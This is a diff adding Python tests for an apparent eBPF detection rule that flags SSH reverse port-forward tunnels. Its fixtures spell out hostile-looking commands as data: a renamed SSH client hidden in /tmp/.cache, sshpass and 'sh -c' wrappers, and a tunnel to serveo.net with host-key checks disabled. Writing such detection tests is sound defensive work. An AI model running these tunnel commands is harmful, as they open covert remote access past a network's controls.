@@ -112,3 +112,28 @@ def test_autossh_alerts_but_leaves_the_connect_to_its_ssh_child():
     assert len(list(rule.on_event(exec_event("autossh -M 0 -N -R 2222:localhost:22 h",
                                              pid=5)))) == 1
     assert 5 not in rule.flagged
+
+
+def test_a_renamed_openssh_client_is_known_by_its_forward_grammar():
+    from shipped_rules import context_for
+    from ebpfguard.detect.tunnel_ssh import SshRemoteForward
+    rule = SshRemoteForward(context_for("tunnel.ssh_remote_forward"))
+    event = {"kind": "exec", "filename": "/tmp/.cache/updater",
+             "argv": ["updater", "-N", "-R", "0:127.0.0.1:22", "user@203.0.113.9"]}
+    [finding] = rule.on_event(event)
+    assert finding.evidence["client"] == "openssh" and finding.evidence["program"] == "updater"
+    for look_alike in (["chmod", "-R", "755", "/data"], ["chown", "-R", "1000:1000", "/data"],
+                       ["./x", "-N", "-L", "5432:db:5432", "user@203.0.113.9"], ["ssh-keygen", "-R", "host"]):
+        assert list(rule.on_event({"kind": "exec", "argv": look_alike})) == []
+
+
+def test_sshpass_and_sh_c_hand_their_ssh_command_to_the_parser():
+    from shipped_rules import context_for
+    from ebpfguard.detect.tunnel_ssh import SshRemoteForward
+    rule = SshRemoteForward(context_for("tunnel.ssh_remote_forward"))
+    wrapped = {"kind": "exec", "argv": ["sshpass", "-p", "pw", "ssh", "-R", "9000:localhost:22", "root@203.0.113.30"]}
+    [finding] = rule.on_event(wrapped)
+    assert finding.evidence["program"] == "ssh" and finding.evidence["host"] == "root@203.0.113.30"
+    script = {"kind": "exec", "argv": ["sh", "-c", "ssh -o StrictHostKeyChecking=no -R 80:localhost:8080 serveo.net"]}
+    assert [f.evidence["host"] for f in rule.on_event(script)] == ["serveo.net"]
+    assert list(rule.on_event({"kind": "exec", "argv": ["sshpass", "-p", "pw", "ssh", "user@h", "uptime"]})) == []
